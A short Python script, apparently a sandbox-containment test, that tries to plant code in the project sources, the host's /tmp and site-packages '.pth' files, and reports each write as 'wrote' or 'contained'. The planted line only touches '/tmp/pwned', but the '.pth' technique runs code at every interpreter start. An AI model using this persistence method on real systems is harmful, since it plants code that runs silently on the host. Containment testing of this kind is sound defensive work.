# Plant code where the host will run it: the project's sources, the interpreter's site-packages
# (a .pth file runs at every interpreter start), the host's /tmp.
import os, sys, sysconfig
targets = [os.path.join(PROJECT_SRC, "planted.py"), HOST_TMP_FILE,
           os.path.join(sysconfig.get_paths()["purelib"], "planted.pth"),
           os.path.join(sys.base_prefix, "lib", "planted.pth"), os.path.join(SITE_PACKAGES, "planted.pth")]
for path in targets:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write("import os; os.system('touch /tmp/pwned')\n")
        print("wrote (inside the sandbox)", path)
    except OSError as exc:
        print("contained", path, type(exc).__name__)
